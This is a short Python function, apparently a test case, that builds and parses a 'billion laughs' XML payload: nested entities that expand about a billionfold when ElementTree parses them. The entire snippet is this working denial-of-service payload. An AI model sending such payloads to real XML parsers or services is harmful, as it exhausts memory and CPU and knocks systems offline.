# entities of XML that expand a billionfold
def case(input):
    from xml.etree import ElementTree
    entities = ''.join(f'<!ENTITY e{i} "{"&e%d;" % (i - 1) * 10}">' for i in range(1, 10))
    return len(ElementTree.fromstring(f'<!DOCTYPE x [<!ENTITY e0 "0123456789">{entities}]><x>&e9;</x>').text)
